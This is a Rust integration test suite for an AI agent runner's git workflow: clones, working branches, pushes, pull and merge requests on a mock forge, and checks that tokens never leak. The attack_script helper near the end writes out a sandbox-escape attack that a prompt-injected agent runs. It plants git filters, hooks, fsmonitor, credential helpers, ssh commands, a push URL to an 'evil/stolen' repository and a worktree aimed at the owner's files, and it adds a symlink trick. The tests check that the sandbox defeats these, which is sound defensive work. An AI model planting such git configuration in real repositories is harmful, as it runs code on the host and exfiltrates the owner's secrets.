//! The runner's workspace and delivery with real git: clones, working branches, commits,
//! pushes to bare repositories on disk, pull requests on a mock of the GitHub and GitLab APIs.

use std::time::Duration;

use crate::common::forge::{ForgeMock, bare_path, bare_repo, branches, git};
use crate::common::{Options, TestServer, call, exported_events, processes_in};
use model::protocol::{SessionEvent, StoredEvent};
use serde_json::json;

const TOKEN: &str = "ghp_never_shown_0123456789";

struct Fixture {
    server: TestServer,
    _mock: mock_anthropic::MockHandle,
    forge: ForgeMock,
    repos: tempfile::TempDir,
    _data: tempfile::TempDir,
}

async fn fixture() -> Fixture {
    let mock = mock_anthropic::start(Default::default()).await.unwrap();
    let data = tempfile::tempdir().unwrap();
    let server = TestServer::start(Options::new(data.path()).with_mock(&mock.url())).await;
    let forge = ForgeMock::start().await;
    let (st, body) = call(
        &server,
        "PUT",
        "/api/projects/default/runner-secrets",
        Some(json!({"data": {"GITHUB_TOKEN": TOKEN, "GITLAB_TOKEN": TOKEN, "GITHUB_API_URL": forge.url, "GITLAB_API_URL": forge.url}})),
    )
    .await;
    assert_eq!(st, 200, "{body}");
    Fixture {
        server,
        _mock: mock,
        forge,
        repos: tempfile::tempdir().unwrap(),
        _data: data,
    }
}

async fn run(f: &Fixture, body: serde_json::Value, phases: &[&str]) -> (String, Vec<StoredEvent>) {
    let (st, created) = call(
        &f.server,
        "POST",
        "/api/projects/default/agentic-sessions",
        Some(body),
    )
    .await;
    assert_eq!(st, 201, "{created}");
    let name = created["name"].as_str().unwrap().to_owned();
    f.server
        .wait_phase(&name, phases, Duration::from_secs(90))
        .await;
    let events = exported_events(&f.server, &name).await;
    (name, events)
}

fn errors(events: &[StoredEvent]) -> Vec<(String, String)> {
    events
        .iter()
        .filter_map(|e| match &e.event {
            SessionEvent::Error(err) => {
                Some((err.code.clone().unwrap_or_default(), err.message.clone()))
            }
            _ => None,
        })
        .collect()
}

fn assert_no_token(f: &Fixture, name: &str, events: &[StoredEvent]) {
    let exported = serde_json::to_string(events).unwrap();
    assert!(
        !exported.contains(TOKEN),
        "the token leaked into the events"
    );
    let ws = f.server.workspace(name);
    let log = std::fs::read_to_string(ws.join(".ambient/runner.log")).unwrap_or_default();
    assert!(
        !log.contains(TOKEN),
        "the token leaked into the runner's log"
    );
    for repo in std::fs::read_dir(ws.join("repos")).unwrap().flatten() {
        let config = std::fs::read_to_string(repo.path().join(".git/config")).unwrap();
        assert!(
            !config.contains(TOKEN),
            "the token was written into {}",
            repo.path().display()
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_repos_one_pushed_with_a_pull_request() {
    let f = fixture().await;
    let app = bare_repo(f.repos.path(), "acme", "app", None);
    let lib = bare_repo(f.repos.path(), "acme", "lib", None);
    let (name, events) = run(
        &f,
        json!({
            "stopOnRunFinished": true,
            "initialPrompt": "Please create notes.md",
            "displayName": "Write the notes",
            "repos": [
                {"url": app, "autoPush": true, "provider": "github"},
                {"url": lib}
            ]
        }),
        &["Completed", "Failed"],
    )
    .await;
    assert_eq!(
        f.server.phase(&name).await,
        "Completed",
        "{:?}",
        errors(&events)
    );
    let branch = format!("ambient/{name}");

    // The agent worked in the main repository, on the working branch.
    let ws = f.server.workspace(&name);
    assert!(ws.join("repos/app/notes.md").is_file());
    assert!(
        ws.join("repos/lib/README.md").is_file(),
        "the second repository is cloned too"
    );
    // Its work was committed and pushed to the working branch only.
    assert_eq!(branches(&app), vec![branch.clone(), "main".to_owned()]);
    let files = git(&bare_path(&app), &["ls-tree", "--name-only", &branch]);
    assert!(files.lines().any(|l| l == "notes.md"), "{files}");
    assert_eq!(
        branches(&lib),
        vec!["main".to_owned()],
        "a repository without autoPush is not pushed"
    );

    let push = events.iter().find_map(|e| match &e.event {
        SessionEvent::GitPush(p) => Some(p.clone()),
        _ => None,
    });
    let push = push.expect("a push event");
    assert_eq!(
        (push.repo.as_str(), push.branch.as_str()),
        ("app", branch.as_str())
    );
    assert_eq!(
        push.commit,
        git(&bare_path(&app), &["rev-parse", &branch]).trim()
    );
    let pr = events.iter().find_map(|e| match &e.event {
        SessionEvent::PullRequest(p) => Some(p.clone()),
        _ => None,
    });
    let pr = pr.expect("a pull request event");
    assert_eq!(
        (pr.number, pr.url.as_str()),
        (42, format!("{}/acme/app/pull/42", f.forge.url).as_str())
    );
    // The pull request asked for: head = working branch, base = main, a title and a body.
    let calls = f.forge.calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].path, "/repos/acme/app/pulls");
    assert_eq!(calls[0].headers["authorization"], format!("Bearer {TOKEN}"));
    assert_eq!(
        (
            calls[0].body["head"].as_str(),
            calls[0].body["base"].as_str()
        ),
        (Some(branch.as_str()), Some("main"))
    );
    assert_eq!(calls[0].body["title"], "Write the notes");
    assert!(
        calls[0].body["body"]
            .as_str()
            .unwrap()
            .contains("Please create notes.md")
    );
    assert!(errors(&events).is_empty(), "{:?}", errors(&events));
    assert_no_token(&f, &name, &events);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gitlab_gets_a_merge_request() {
    let f = fixture().await;
    let repo = bare_repo(f.repos.path(), "group", "service", None);
    let (name, events) = run(
        &f,
        json!({"stopOnRunFinished": true, "initialPrompt": "create CHANGELOG.md", "repos": [{"url": repo, "branch": "main", "autoPush": true, "provider": "gitlab"}]}),
        &["Completed", "Failed"],
    )
    .await;
    assert!(errors(&events).is_empty(), "{:?}", errors(&events));
    let calls = f.forge.calls();
    assert_eq!(calls[0].path, "/projects/group/service/merge_requests");
    assert_eq!(calls[0].headers["private-token"], TOKEN);
    assert_eq!(calls[0].body["source_branch"], format!("ambient/{name}"));
    assert_eq!(calls[0].body["target_branch"], "main");
    assert!(
        events
            .iter()
            .any(|e| matches!(&e.event, SessionEvent::PullRequest(p) if p.number == 7))
    );
    assert_no_token(&f, &name, &events);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rejected_push_or_a_failed_pull_request_is_an_error_and_the_result_stands() {
    let f = fixture().await;
    // A server-side hook refuses every push.
    let refused = bare_repo(f.repos.path(), "acme", "locked", None);
    let hook = bare_path(&refused).join("hooks/pre-receive");
    std::fs::write(&hook, "#!/bin/sh\necho 'pushes are frozen' >&2\nexit 1\n").unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let (name, events) = run(
        &f,
        json!({"stopOnRunFinished": true, "initialPrompt": "create a.txt", "repos": [{"url": refused, "autoPush": true, "provider": "github"}]}),
        &["Completed", "Failed"],
    )
    .await;
    assert_eq!(
        f.server.phase(&name).await,
        "Completed",
        "the run's result stands"
    );
    let errs = errors(&events);
    assert_eq!(errs.len(), 1, "{errs:?}");
    assert_eq!(errs[0].0, "push_rejected");
    assert!(errs[0].1.contains("pushes are frozen"), "{}", errs[0].1);
    assert!(
        f.forge.calls().is_empty(),
        "no pull request for an unpushed branch"
    );

    // The forge fails: the push happened, the pull request is an error.
    f.forge.fail_with(500);
    let open = bare_repo(f.repos.path(), "acme", "open", None);
    let (name, events) = run(
        &f,
        json!({"stopOnRunFinished": true, "initialPrompt": "create b.txt", "repos": [{"url": open, "autoPush": true, "provider": "github"}]}),
        &["Completed", "Failed"],
    )
    .await;
    assert_eq!(f.server.phase(&name).await, "Completed");
    assert!(branches(&open).contains(&format!("ambient/{name}")));
    let errs = errors(&events);
    assert_eq!(
        errs.iter().map(|e| e.0.as_str()).collect::<Vec<_>>(),
        ["pr_failed"]
    );
    assert!(
        errs[0].1.contains("500") && errs[0].1.contains("bad day"),
        "{}",
        errs[0].1
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_continued_session_keeps_its_branch_and_delivers_again() {
    let f = fixture().await;
    let app = bare_repo(f.repos.path(), "acme", "cont", None);
    let (name, _) = run(
        &f,
        json!({"stopOnRunFinished": true, "initialPrompt": "create one.txt", "repos": [{"url": app, "autoPush": true, "provider": "github"}]}),
        &["Completed"],
    )
    .await;
    let (st, _) = call(
        &f.server,
        "POST",
        &format!("/api/projects/default/agentic-sessions/{name}/messages"),
        Some(json!({"text": "create two.txt"})),
    )
    .await;
    assert_eq!(st, 202);
    f.server
        .wait_phase(&name, &["Running", "Creating"], Duration::from_secs(30))
        .await;
    f.server
        .wait_phase(&name, &["Completed"], Duration::from_secs(90))
        .await;
    let files = git(
        &bare_path(&app),
        &["ls-tree", "--name-only", &format!("ambient/{name}")],
    );
    assert!(
        files.contains("one.txt") && files.contains("two.txt"),
        "{files}"
    );
    assert_eq!(
        f.forge.calls().len(),
        2,
        "each run opens (or finds) its pull request"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn interrupting_a_long_bash_command_leaves_no_child() {
    let f = fixture().await;
    let (st, created) = call(
        &f.server,
        "POST",
        "/api/projects/default/agentic-sessions",
        Some(json!({"stopOnRunFinished": true, "initialPrompt": "run: echo started; sleep 600"})),
    )
    .await;
    assert_eq!(st, 201);
    let name = created["name"].as_str().unwrap().to_owned();
    let ws = f.server.workspace(&name);
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    while !processes_in(&ws)
        .iter()
        .any(|(_, c)| c.contains("sleep 600"))
    {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the command never started"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (st, _) = call(
        &f.server,
        "POST",
        &format!("/api/projects/default/agentic-sessions/{name}/interrupt"),
        None,
    )
    .await;
    assert_eq!(st, 202);
    // The turn ends, the command is gone, the session goes on to complete.
    f.server
        .wait_phase(&name, &["Completed"], Duration::from_secs(30))
        .await;
    assert!(
        !processes_in(&ws).iter().any(|(_, c)| c.contains("sleep")),
        "{:?}",
        processes_in(&ws)
    );
    let events = exported_events(&f.server, &name).await;
    assert!(
        events
            .iter()
            .any(|e| matches!(&e.event, SessionEvent::ToolResult(r) if r.is_error))
    );
    assert!(events.iter().any(
        |e| matches!(&e.event, SessionEvent::TurnResult(t) if t.subtype == "error_during_execution")
    ));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_follow_up_during_a_turn_is_the_next_turn_of_the_same_conversation() {
    let f = fixture().await;
    let (st, created) = call(
        &f.server,
        "POST",
        "/api/projects/default/agentic-sessions",
        Some(json!({"stopOnRunFinished": true, "initialPrompt": "slow 12"})),
    )
    .await;
    assert_eq!(st, 201);
    let name = created["name"].as_str().unwrap().to_owned();
    f.server
        .wait_phase(&name, &["Running"], Duration::from_secs(30))
        .await;
    let (st, _) = call(
        &f.server,
        "POST",
        &format!("/api/projects/default/agentic-sessions/{name}/messages"),
        Some(json!({"text": "recall"})),
    )
    .await;
    assert_eq!(st, 202);
    f.server
        .wait_phase(&name, &["Completed"], Duration::from_secs(60))
        .await;
    let events = exported_events(&f.server, &name).await;
    let turns = events
        .iter()
        .filter(|e| matches!(e.event, SessionEvent::TurnResult(_)))
        .count();
    assert_eq!(turns, 2, "two turns in one run");
    assert!(events.iter().any(
        |e| matches!(&e.event, SessionEvent::AgentMessage(m) if m.text == "I remember: slow 12")
    ));
    let session = f.server.session(&name).await;
    assert!(
        session["status"].get("sdkRestartCount").is_none(),
        "no restart was needed"
    );
}

/// Tokens go only to their configured host. A git server on a second loopback name (no
/// forge of the run is there) asks for credentials and records every `Authorization` it is
/// sent: it receives none, whichever provider the session names, and no pull request API
/// is called on its behalf.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repository_on_another_host_gets_no_token() {
    use std::sync::{Arc, Mutex};
    let f = fixture().await;
    let seen: Arc<Mutex<Vec<Option<String>>>> = Arc::default();
    let record = seen.clone();
    let app = axum::Router::new().fallback(move |headers: axum::http::HeaderMap| {
        let record = record.clone();
        async move {
            record.lock().unwrap().push(
                headers
                    .get("authorization")
                    .map(|v| v.to_str().unwrap_or("?").to_owned()),
            );
            (
                axum::http::StatusCode::UNAUTHORIZED,
                [("www-authenticate", "Basic realm=\"git\"")],
                "credentials, please",
            )
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.2:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await.ok() });

    for provider in [None, Some("github"), Some("gitlab")] {
        let mut repo = json!({"url": format!("http://127.0.0.2:{port}/acme/app.git"), "branch": "main", "autoPush": true});
        if let Some(p) = provider {
            repo["provider"] = json!(p);
        }
        let (name, events) = run(
            &f,
            json!({"stopOnRunFinished": true, "initialPrompt": "create notes.md", "repos": [repo]}),
            &["Failed", "Completed"],
        )
        .await;
        let exported = serde_json::to_string(&events).unwrap();
        assert!(!exported.contains(TOKEN), "{provider:?}");
        assert!(
            !errors(&events).is_empty(),
            "{provider:?}: the clone cannot succeed"
        );
        let _ = name;
    }
    let seen = seen.lock().unwrap().clone();
    assert!(!seen.is_empty(), "git never reached the server");
    assert!(
        seen.iter().all(Option::is_none),
        "credentials were sent to a host they do not belong to: {seen:?}"
    );
    assert!(f.forge.calls().is_empty(), "{:?}", f.forge.calls().len());
}

/// The script a prompt-injected agent runs in its repository: every git key that makes a git
/// reading this repository run a program, each program leaving a mark in `markers` (a
/// directory of the host, which the agent's sandbox does not show: a mark there means it ran
/// outside). With `commit`, the agent commits its work itself first (so the delivery has
/// something to push and only push-time keys are left to try); `worktree` also points
/// `core.worktree` at the owner's files and makes commits signed by a program of its own.
fn attack_script(
    markers: &std::path::Path,
    stolen: &str,
    worktree: Option<&std::path::Path>,
) -> Vec<u8> {
    let keys = "filter-clean filter-smudge textconv merge gpg fsmonitor hook ssh credential \
                receivepack uploadpack include askpass";
    let mut s = format!(
        "#!/bin/sh\n\
         M='{m}'\n\
         G=\"$PWD/.git\"\n\
         echo work > work.txt\n\
         if [ \"${{1:-}}\" = commit ]; then git add work.txt && git -c commit.gpgSign=false commit -q -m 'agent work'; fi\n\
         for k in {keys}; do printf '#!/bin/sh\\ntouch %s/%s\\ncat\\n' \"$M\" \"$k\" > \"$G/x-$k\"; chmod +x \"$G/x-$k\"; done\n\
         git config filter.x.clean \"$G/x-filter-clean\"\n\
         git config filter.x.smudge \"$G/x-filter-smudge\"\n\
         git config diff.x.textconv \"$G/x-textconv\"\n\
         git config merge.x.driver \"$G/x-merge\"\n\
         printf '* filter=x diff=x merge=x\\n*.txt filter=z\\n' >> \"$G/info/attributes\"\n\
         printf '[filter \"z\"]\\n\\tclean = %s\\n' \"$G/x-include\" > \"$G/extra.cfg\"\n\
         git config include.path \"$G/extra.cfg\"\n\
         git config core.fsmonitor \"$G/x-fsmonitor\"\n\
         mkdir -p \"$G/hooks2\"; cp \"$G/x-hook\" \"$G/hooks2/pre-commit\"; cp \"$G/x-hook\" \"$G/hooks/pre-commit\"\n\
         cp \"$G/x-hook\" \"$G/hooks/pre-push\"; git config core.hooksPath \"$G/hooks2\"\n\
         git config core.sshCommand \"$G/x-ssh\"\n\
         git config core.askPass \"$G/x-askpass\"\n\
         git config credential.helper \"$G/x-credential\"\n\
         git config remote.origin.receivepack \"$G/x-receivepack\"\n\
         git config remote.origin.uploadpack \"$G/x-uploadpack\"\n\
         git config remote.origin.pushurl '{stolen}'\n\
         git config http.proxy http://127.0.0.1:9\n\
         git config http.sslVerify false\n\
         echo more >> work.txt\n",
        m = markers.display(),
    );
    if let Some(home) = worktree {
        // Commit-time only: a signing program that fails makes every commit fail.
        s.push_str("git config commit.gpgSign true\ngit config gpg.program \"$G/x-gpg\"\n");
        s.push_str(&format!("git config core.worktree '{}'\n", home.display()));
    }
    s.push_str("echo planted\n");
    s.into_bytes()
}

/// What ran outside the sandbox: the marks left in `markers`.
fn marks(markers: &std::path::Path) -> Vec<String> {
    let mut found: Vec<String> = std::fs::read_dir(markers)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    found.sort();
    found
}

/// Every git key of the agent that makes git run a program is planted, the work is left
/// uncommitted and `core.worktree` points at the owner's files: the runner's commit runs
/// inside the sandbox (where the owner's files are not), nothing runs on the host, and
/// nothing of the owner's leaves the machine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_git_configuration_runs_nothing_on_the_host_at_commit() {
    operator::local::probe_sandbox().expect("bubblewrap runs here (`make setup` installs it)");
    let f = fixture().await;
    let host = tempfile::tempdir().unwrap();
    let markers = host.path().join("markers");
    let owner_home = host.path().join("owner");
    std::fs::create_dir_all(&markers).unwrap();
    std::fs::create_dir_all(&owner_home).unwrap();
    std::fs::write(owner_home.join("secret.txt"), "the owner's private key").unwrap();
    let stolen = bare_repo(f.repos.path(), "evil", "stolen", None);
    let app = bare_repo(
        f.repos.path(),
        "acme",
        "app",
        Some((
            "attack.sh",
            attack_script(&markers, &stolen, Some(&owner_home)),
        )),
    );
    let (name, events) = run(
        &f,
        json!({"stopOnRunFinished": true, "initialPrompt": "run: sh attack.sh", "repos": [{"url": app, "autoPush": true}]}),
        &["Completed", "Failed"],
    )
    .await;
    let transcript = serde_json::to_string(&events).unwrap();
    assert!(
        transcript.contains("planted"),
        "the attack did not run: {transcript}"
    );
    assert_eq!(marks(&markers), Vec::<String>::new(), "ran on the host");
    // Nothing of the owner's was committed anywhere, nothing reached another repository.
    for repo in [&app, &stolen] {
        let all = git(&bare_path(repo), &["log", "--all", "-p", "--format=%H"]);
        assert!(!all.contains("private key"), "{all}");
    }
    assert_eq!(branches(&stolen), ["main"]);
    assert!(!transcript.contains("private key"));
    assert_no_token(&f, &name, &events);
}

/// The agent commits its own work and plants every key that acts at push time (its own
/// receive-pack, a push URL of its choosing, a credential helper, a proxy, ssh ...): the
/// runner pushes the agent's commits, and only them, to the session's remote, and runs
/// nothing of the agent's. A link the agent leaves where the next run clones is refused,
/// not followed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_git_configuration_runs_nothing_at_push_and_links_are_not_followed() {
    operator::local::probe_sandbox().expect("bubblewrap runs here (`make setup` installs it)");
    let f = fixture().await;
    let host = tempfile::tempdir().unwrap();
    let markers = host.path().join("markers");
    let victim = host.path().join("victim");
    std::fs::create_dir_all(&markers).unwrap();
    std::fs::create_dir_all(&victim).unwrap();
    let stolen = bare_repo(f.repos.path(), "evil", "stolen", None);
    let mut script = attack_script(&markers, &stolen, None);
    script.extend(
        format!(
            "rm -rf ../lib && ln -s '{}' ../lib && echo linked\n",
            victim.display()
        )
        .into_bytes(),
    );
    let app = bare_repo(f.repos.path(), "acme", "app", Some(("attack.sh", script)));
    let lib = bare_repo(f.repos.path(), "acme", "lib", None);
    let (name, events) = run(
        &f,
        json!({"stopOnRunFinished": true, "initialPrompt": "run: sh attack.sh commit", "repos": [{"url": app, "autoPush": true}, {"url": lib}]}),
        &["Completed", "Failed"],
    )
    .await;
    let transcript = serde_json::to_string(&events).unwrap();
    assert!(
        transcript.contains("linked"),
        "the attack did not run: {transcript}"
    );
    assert_eq!(marks(&markers), Vec::<String>::new(), "ran on the host");
    // The agent's commit (and the runner's of what it left) went to the session's remote.
    let branch = format!("ambient/{name}");
    assert_eq!(
        branches(&app),
        [branch.clone(), "main".to_owned()],
        "{:?}",
        errors(&events)
    );
    let log = git(&bare_path(&app), &["log", "--format=%s", &branch]);
    assert!(log.contains("agent work"), "{log}");
    let content = git(&bare_path(&app), &["show", &format!("{branch}:work.txt")]);
    assert_eq!(
        content, "work\nmore\n",
        "the agent's bytes, through no filter"
    );
    assert_eq!(branches(&stolen), ["main"], "pushed where the agent said");
    assert!(
        events
            .iter()
            .any(|e| matches!(e.event, SessionEvent::GitPush(_)))
    );

    // The next run finds a link where it would clone `lib`: it refuses, writing nothing there.
    let path = format!("/api/projects/default/agentic-sessions/{name}/messages");
    let (st, body) = call(&f.server, "POST", &path, Some(json!({"text": "go on"}))).await;
    assert_eq!(st, 202, "{body}");
    f.server
        .wait_phase(
            &name,
            &["Creating", "Running", "Failed"],
            Duration::from_secs(30),
        )
        .await;
    let phase = f
        .server
        .wait_phase(&name, &["Completed", "Failed"], Duration::from_secs(90))
        .await;
    let events = exported_events(&f.server, &name).await;
    assert_eq!(phase, "Failed", "{:?}", errors(&events));
    assert!(
        errors(&events)
            .iter()
            .any(|(_, m)| m.contains("symbolic link")),
        "{:?}",
        errors(&events)
    );
    assert_eq!(
        std::fs::read_dir(&victim).unwrap().count(),
        0,
        "wrote through the link"
    );
    assert_eq!(marks(&markers), Vec::<String>::new(), "ran on the host");
}
